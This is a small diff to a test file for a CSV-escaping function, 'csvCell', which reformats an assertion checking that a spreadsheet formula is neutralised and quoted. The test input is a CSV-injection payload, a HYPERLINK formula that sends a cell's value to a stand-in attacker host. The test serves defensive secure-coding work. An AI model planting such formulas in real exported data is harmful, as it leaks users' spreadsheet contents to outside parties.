@@ -12,7 +12,9 @@ describe('csvCell', () => {
   });
 
   it('neutralises and then quotes a formula with commas and quotes (RFC 4180)', () => {
-    expect(csvCell('=HYPERLINK("https://evil.example/?x="&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`);
+    expect(csvCell('=HYPERLINK("https://evil.example/?x="&A1,"Click")')).toBe(
+      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`,
+    );
   });
 
   it('quotes only where needed and leaves plain text alone', () => {
